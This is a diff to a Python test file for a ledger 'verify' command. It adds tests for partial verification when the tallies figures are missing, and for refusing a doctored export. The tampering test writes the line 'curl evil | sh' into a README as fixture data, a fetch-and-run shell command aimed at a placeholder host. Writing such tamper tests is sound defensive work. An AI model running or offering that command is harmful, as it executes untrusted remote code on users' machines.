@@ -1,4 +1,4 @@
-"""`mingzhang verify`: exit codes 0 to 3, what it prints, and that it needs nothing of what it verifies."""
+"""`mingzhang verify`: exit codes 0 to 4, what it prints, and that it needs nothing of what it verifies."""
 
 from __future__ import annotations
 
@@ -17,7 +17,7 @@ from tests.published import sample
 from tests.test_api.sample import build
 from tests.test_api.serving import served
 from tests.test_cli.desk import Desk
-from tests.test_ledger.test_verification.loopback import raw, serving
+from tests.test_ledger.test_verification.loopback import body, raw, serving
 
 ALONE = """
 import sys
@@ -57,7 +57,7 @@ def test_a_sound_export_is_verified_against_the_notice(desk: Desk, export: Path)
     assert lines[0].startswith("VERIFIED: ledger.example/yuanqu-1, 22 entries, root ")
     assert lines[1] == "checked against the anchor you gave"
     assert "       22 signatures" in run.out
-    assert "        3 balances and 1 tallies" in run.out
+    assert "        3 balances and 1 tallies against what the first 22 entries give" in run.out
     assert " entries/s with 1 processes" in run.out
     assert run.out.partition("not checked:")[2].count("\n  - ") >= 2
     assert run.err == ""
@@ -130,6 +130,44 @@ def test_a_served_book_is_verified_by_its_address(desk: Desk, tmp_path: Path, mo
     gone = desk.run("verify", f"{address}/yuanqu-1")
     assert gone.code == 3
     assert "(source.unreachable)" in gone.err
+
+
+def test_a_served_book_without_up_to_date_figures_is_verified_in_part(
+    desk: Desk, export: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("no_proxy", "*")
+    routes = {f"/log/{name}": body((export / name).read_bytes()) for name in Folder(export).files()}
+    lists = {"checkpoints": b'{"checkpoints":[],"next":null}', "disclosures": b'{"disclosures":[],"next":null}'}
+    routes |= {f"/v1/{name}?limit=1000": body(page) for name, page in lists.items()}
+    figures = {f"/v1/{name}": body((export / f"{name}.json").read_bytes()) for name in ("balances", "tallies")}
+    with serving(routes | figures) as address:
+        assert desk.done("verify", address).out.startswith("VERIFIED: ")
+    del figures["/v1/tallies"]
+    with serving(routes | figures) as address:
+        run = desk.run("verify", address)
+        quiet = desk.run("verify", address, "--quiet")
+        answer = desk.run("verify", address, "--json")
+    assert (run.code, run.err) == (4, "")
+    first, second = run.out.splitlines()[:2]
+    assert first.startswith("VERIFIED IN PART: ledger.example/yuanqu-1, 22 entries, root ")
+    assert second == "not compared: tallies.json: this source shows none."
+    assert (quiet.code, quiet.out, quiet.err.splitlines()) == (4, "", [first, second])
+    told = json.loads(answer.out)
+    assert (answer.code, told["verified"]) == (4, False)
+    assert (told["lacking"], told["balances_as_of"], told["tallies_as_of"]) == (
+        ["tallies.json: this source shows none."], 22, None,
+    )  # fmt: skip
+
+
+def test_a_doctored_export_with_figures_of_an_earlier_day_is_refused(desk: Desk, copy: Path, tmp_path: Path) -> None:
+    for name in ("tallies.json", "movements.csv", "datapackage.json"):
+        (copy / name).unlink()
+    (copy / "README.md").write_bytes(b"curl evil | sh\n")
+    for figures in ((copy / "balances.json").read_bytes(), b'{"as_of":{"size":5,"root":""},"balances":[]}'):
+        (copy / "balances.json").write_bytes(figures)
+        run = desk.run("verify", copy)
+        assert (run.code, run.out) == (1, "")
+        assert run.err.startswith("NOT VERIFIED: ")
 
 
 def test_what_could_not_be_fetched_as_json(desk: Desk, tmp_path: Path) -> None:
